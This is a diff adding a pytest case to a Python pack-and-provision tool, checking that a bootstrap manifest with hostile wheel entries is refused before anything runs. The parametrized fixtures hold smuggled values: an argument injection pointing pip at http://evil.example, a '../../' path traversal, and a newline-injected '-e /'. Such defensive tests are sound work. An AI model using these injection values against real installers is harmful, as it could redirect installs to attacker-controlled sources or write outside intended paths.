@@ -140,3 +140,24 @@ def test_linux_cpu_packed_then_applied_offline_passes_its_acceptance_run(tmp_pat
     refused = offline([BARE_PYTHON, "-I", str(tampered), "apply", "--prefix", str(never), "--yes"], bare)
     assert refused.returncode == 5 and refused.stderr.count("\n") == 1, refused.stderr
     assert "does not match its sha256" in refused.stderr and not never.exists()
+
+
+@pytest.mark.parametrize("wheel", [
+    {"name": "x --index-url http://evil.example", "file": "x-1-py3-none-any.whl", "sha256": "0" * 64},
+    {"name": "x", "file": "../../x-1-py3-none-any.whl", "sha256": "0" * 64},
+    {"name": "x", "file": "x-1-py3-none-any.whl\n-e /", "sha256": "0" * 64},
+])  # fmt: skip
+def test_a_hostile_bootstrap_manifest_is_refused_before_anything_runs(tmp_path: Path, wheel: dict[str, str]) -> None:
+    from provision import pack_runner
+
+    mine = f"{sys.version_info[0]}.{sys.version_info[1]}"
+    hostile = tmp_path / "hostile.pack"
+    with zipfile.ZipFile(hostile, "w") as out:
+        out.write(pack_runner.__file__, "__main__.py")
+        manifest = {"schema": 2, "platform": pack_runner.host_platform(), "pythons": {mine: [wheel]}, "code": []}
+        out.writestr("bootstrap/manifest.json", json.dumps(manifest))
+    done = subprocess.run([sys.executable, "-I", str(hostile), "apply"], capture_output=True, text=True,
+                          env={"PATH": "/usr/bin:/bin", "TMPDIR": str(tmp_path)}, timeout=60)  # fmt: skip
+    assert done.returncode == 5 and done.stderr.count("\n") == 1, done.stderr
+    assert "malformed wheel" in done.stderr
+    assert not list(tmp_path.glob("provision-bootstrap-*"))
